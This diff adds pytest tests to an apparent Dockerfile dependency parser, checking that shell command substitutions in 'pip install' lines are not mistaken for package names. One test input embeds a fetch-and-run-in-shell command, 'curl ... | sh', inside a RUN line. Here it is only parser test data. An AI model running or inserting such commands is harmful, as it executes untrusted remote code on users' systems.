@@ -468,3 +468,28 @@ def test_discovery_is_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -
         (tmp_path / f"f{i:05d}.bin").touch()
     found = discover(tmp_path)
     assert any("search stopped" in why for _, why in found.skipped)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "RUN pip install torch==2.1.0 $(curl -s https://example.org/extra | sh) einops==0.7.0",
+        "RUN pip install torch==2.1.0 `cat extra.txt` einops==0.7.0",
+        "RUN pip install torch==2.1.0 \"$(python -c 'print(1)')\" einops==0.7.0",
+        "RUN pip install torch==2.1.0 $(echo $(nested stuff)) einops==0.7.0",
+    ],
+)
+def test_a_command_substitution_is_never_read_as_packages(tmp_path: Path, line: str) -> None:
+    # `$(curl evil | sh)` installed a package named "evil": the substitution's own words
+    # were read as the pip command's arguments.
+    readings = read(tmp_path, {"Dockerfile": f"FROM python:3.10\n{line}\n"})
+    found = asks(readings)
+    assert set(found) == {"torch", "einops"}, sorted(found)
+    assert "a command's output, not run here" in notes(readings)
+
+
+def test_single_quotes_keep_a_dollar_paren_literal(tmp_path: Path) -> None:
+    readings = read(
+        tmp_path, {"Dockerfile": "FROM python:3.10\nRUN echo '$(x)' && pip install einops==0.7.0\n"}
+    )
+    assert set(asks(readings)) == {"einops"}
